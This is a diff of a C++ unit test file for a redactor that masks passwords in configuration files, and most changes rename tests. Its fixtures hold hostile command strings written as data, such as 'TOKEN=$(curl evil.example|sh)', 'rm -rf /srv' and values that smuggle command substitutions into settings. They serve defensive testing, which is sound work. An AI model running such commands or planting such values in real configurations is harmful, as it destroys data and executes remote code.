@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: Apache-2.0
-// Values in configuration files, where a value may have characters that a shell would act on.
+// Values in configuration files, where a value may contain characters that are special to a shell.
 #include "tests/security/redactor_fixture.hpp"
 
 #include <array>
@@ -14,7 +14,7 @@ void expect_setting_hidden(std::string_view text, TextKind kind, std::initialize
     EXPECT_EQ(redactor().text(redacted), redacted) << "a second look that knows less changes nothing";
 }
 
-TEST(RedactorSettings, I6_NoTailOfAPasswordShowsInAConfigurationFile) {
+TEST(RedactorSettings, I6_NoTailOfAPasswordIsVisibleInAConfigurationFile) {
     for (const std::string_view mark : {"&", ";", "(", ")", "<", ">", "|", "`", "$(", "&&", "||", "><"}) {
         const auto value = "abcd1" + std::string{mark} + "efgh2";
         for (const std::string_view pattern :
@@ -33,18 +33,18 @@ TEST(RedactorSettings, I6_NoTailOfAPasswordShowsInAConfigurationFile) {
     }
 }
 
-TEST(RedactorSettings, I9_WhatAShellWouldActOnStaysVisibleBetweenTheMasks) {
+TEST(RedactorSettings, I9_ShellMetacharactersStayVisibleBetweenTheMasks) {
     const auto redacted = redactor().text("DB_PASSWORD=abcd1;efgh2\n", TextKind::settings);
     EXPECT_TRUE(contains(redacted, "»;«")) << redacted;
 }
 
-TEST(RedactorSettings, I9_ACommandWithArgumentsIsNoValue) {
+TEST(RedactorSettings, I9_ACommandWithArgumentsIsNotMaskedAsAValue) {
     for (const std::string_view text : {"TOKEN=abc; rm -rf /srv\n", "TOKEN=abc rm -rf /srv\n", "TOKEN=a&rm -rf /srv\n",
                                         "TOKEN=$(curl evil.example|sh) x\n"}) {
         const auto redacted = redactor().text(text, TextKind::settings);
         EXPECT_TRUE(contains(redacted, "rm -rf /srv") || contains(redacted, "curl evil.example|sh")) << redacted;
     }
-    // A pipeline's script in YAML is a command.
+    // A script of a pipeline in YAML is a command.
     const auto script = redactor().text("run: |\n  TOKEN=abc;evilcmd\n", TextKind::yaml);
     EXPECT_TRUE(contains(script, ";evilcmd")) << script;
 }
@@ -71,7 +71,7 @@ TEST(RedactorSettings, I9_ASubstitutionInASettingStaysVisible) {
     expect_visible_in_settings("TOKEN=\"${abcd1:-$(evilcmd)}\"\n", "$(evilcmd)");
     expect_visible_in_settings("TOKEN=abcd1<(evilcmd)\n", "<(evilcmd)");
     expect_visible_in_settings("TOKEN==(evilcmd)\n", "=(evilcmd)");
-    // It goes on in the next line.
+    // The substitution continues on the next line.
     expect_visible_in_settings("TOKEN=\"abcd1$(evilcmd \"a\"\n)\"\n", "$(evilcmd ");
     expect_visible_in_settings("TOKEN=\"abcd1`/tmp/evil \"a\"\n`\"\n", "`/tmp/evil ");
 }
@@ -90,7 +90,7 @@ TEST(RedactorSettings, I9_ThePathOfAProgramInASettingStaysVisible) {
     EXPECT_FALSE(contains(redacted, "abcd1")) << redacted;
 }
 
-TEST(RedactorSettings, I9_ACommandThatIsKnownOrHasArgumentsStaysVisibleInASetting) {
+TEST(RedactorSettings, I9_AKnownCommandOrOneWithArgumentsStaysVisibleInASetting) {
     for (const std::string_view command : {"reboot", "sh", "re\\boot", "'reboot'", "$EVIL", "python3.12"}) {
         expect_visible_in_settings("TOKEN=abcd1;" + std::string{command} + "\n", command);
         expect_visible_in_settings("TOKEN=abcd1|" + std::string{command} + "\n", command);
@@ -101,7 +101,7 @@ TEST(RedactorSettings, I9_ACommandThatIsKnownOrHasArgumentsStaysVisibleInASettin
     expect_visible_in_settings("TOKEN=abcd1;evilcmd\tnow\n", "evilcmd\tnow");
 }
 
-TEST(RedactorSettings, I6_AQuotedSettingThatNoShellRunsIsHiddenWhole) {
+TEST(RedactorSettings, I6_AQuotedSettingThatNoShellRunsIsMaskedWhole) {
     for (const std::string_view text :
          {"TOKEN='abcd1$(efgh2)'\n", "TOKEN='abcd1`efgh2`'\n", "TOKEN='abcd1;efgh2/x'\n", "TOKEN=\"abcd1;efgh2/x\"\n",
           "TOKEN=\"abcd1|efgh2/x\"\n", "# `use` this\nTOKEN=\"abcd1`efgh2\"\n"}) {
@@ -116,12 +116,12 @@ TEST(RedactorSettings, I9_InACommandTheTailStaysVisible) {
     }
 }
 
-TEST(RedactorSettings, I6_BracketsInABareValueDontShowItsHead) {
+TEST(RedactorSettings, I6_BracketsInABareValueDoNotRevealItsStart) {
     for (const std::string_view text : {"DB_PASSWORD=hunter2(def)<x>|y", "export DB_PASSWORD=hunter2(def)>x",
                                         "DB_PASSWORD=hunter2()<x", "tool --password=hunter2(def)<x>"}) {
         EXPECT_FALSE(contains(redactor().text(text), "hunter2")) << redactor().text(text);
     }
-    // Source code, and what fish and PowerShell run.
+    // Source code, and text that fish and PowerShell would execute.
     for (const std::string_view text : {"key=hash2(def)", "password=hash2(def);", "password = hash2(def)<x",
                                         "$password=hash2(def)<x", "password=hash2(def) < x", "password=hash(def)<x"}) {
         EXPECT_EQ(redactor().text(text), text);
@@ -129,7 +129,7 @@ TEST(RedactorSettings, I6_BracketsInABareValueDontShowItsHead) {
     EXPECT_TRUE(contains(redactor().text("DB_PASSWORD=hunter2(evilcmd)<x>|evilcmd"), "(evilcmd)<x>|evilcmd"));
 }
 
-TEST(RedactorSettings, I6_AQuotedValueIsMaskedWholeWhereNoShellRunsWhatIsInIt) {
+TEST(RedactorSettings, I6_AQuotedValueIsMaskedWholeIfNoShellRunsItsContent) {
     for (const std::string_view text :
          {"PASSWORD='abcd1`efgh2'", "PASSWORD=\"abcd1`efgh2\"", "password = 'abcd1`efgh2'",
           "{\"password\": \"abcd1`efgh2\"}", "PASSWORD='abcd1`efgh2`'", "export PASSWORD='abcd1`efgh2`'",
@@ -138,7 +138,7 @@ TEST(RedactorSettings, I6_AQuotedValueIsMaskedWholeWhereNoShellRunsWhatIsInIt) {
     }
 }
 
-TEST(RedactorSettings, I9_AQuotedValueThatIsReadTwiceHidesNoCommand) {
+TEST(RedactorSettings, I9_AQuotedValueThatIsEvaluatedTwiceHidesNoCommand) {
     for (const std::string_view text :
          {"eval PASSWORD='`evilcmd`'", "ssh host PASSWORD='$(evilcmd)'", "sh -c PASSWORD='`evilcmd`'",
           "cat <<X\nPASSWORD='`evilcmd`'\nX\n", "sh -c \"\nPASSWORD='`evilcmd`'\n\"", "x; PASSWORD='`evilcmd`'",
@@ -148,7 +148,7 @@ TEST(RedactorSettings, I9_AQuotedValueThatIsReadTwiceHidesNoCommand) {
     }
 }
 
-TEST(RedactorSettings, I9_AMaskLeavesTheQuotesOfAJoinedValueInPairs) {
+TEST(RedactorSettings, I9_AMaskKeepsTheQuotesOfAJoinedValuePaired) {
     for (const std::string_view text : {"x --token 'abcd1'efgh2|evilcmd 'y' z", "PASSWORD='abcd1'efgh2|evilcmd 'y' z",
                                         "PASSWORD=\"abcd1\"efgh2;evilcmd \"y\"", "mysql -p'abcd1'efgh2|evilcmd 'y'"}) {
         const auto redacted = redactor().text(text);
@@ -158,7 +158,7 @@ TEST(RedactorSettings, I9_AMaskLeavesTheQuotesOfAJoinedValueInPairs) {
     }
 }
 
-TEST(RedactorSettings, OtherSettingsReferencesAndCommentsStayAsTheyAre) {
+TEST(RedactorSettings, OtherSettingsReferencesAndCommentsAreUnchanged) {
     for (const std::string_view text :
          {"HOST=db&x\nPORT=5432\n", "# DB_PASSWORD goes here\n", "DB_PASSWORD=${DB_PASSWORD}\n", "DB_PASSWORD=\n",
           "TOKEN_URL=https://example.com/a?b=c&d=e\n", "password_file = /run/secrets/db\n", "DB_PASSWORD=changeme\n",
@@ -171,7 +171,7 @@ TEST(RedactorSettings, OtherSettingsReferencesAndCommentsStayAsTheyAre) {
     }
 }
 
-TEST(RedactorSettings, AFileIsKnownByItsName) {
+TEST(RedactorSettings, TheKindOfAFileIsRecognisedByItsName) {
     for (const std::string_view path : {".env", "/srv/app/.env", ".env.local", "prod.env", "app.INI", "a/b.toml",
                                         "my.cnf", "app.properties", "x.tfvars", "C:\\app\\.env", ".aws/credentials"}) {
         EXPECT_EQ(kind_of_file(path), TextKind::settings) << path;
@@ -184,7 +184,7 @@ TEST(RedactorSettings, AFileIsKnownByItsName) {
     }
 }
 
-TEST(RedactorSettings, I6_TheTextOfAFileIsReadAsItsKindAndTheOtherMembersAreNot) {
+TEST(RedactorSettings, I6_OnlyTheTextOfAFileIsReadAsItsKind) {
     static constexpr auto names = std::to_array<std::string_view>({"content"});
     const json::Value call{
         json::Object{{"content", "DB_PASSWORD=abcd1&efgh2\n"}, {"command", "DB_PASSWORD=abcd1&efgh2"}}};
